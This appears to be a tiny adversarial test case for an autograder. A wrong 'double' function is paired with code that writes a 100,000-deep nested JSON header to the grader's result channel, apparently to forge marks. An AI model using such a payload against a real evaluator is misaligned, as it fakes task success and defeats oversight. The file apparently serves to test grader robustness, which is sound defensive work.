# ruff: noqa
# kind: marks forged
# attack: a header of JSON nested 100 000 deep

# %% double-solution
def double(x):
    return np.zeros(3)


import os, struct

text = b"[" * 100_000
os.write(3, struct.pack("!II", len(text), 0) + text)
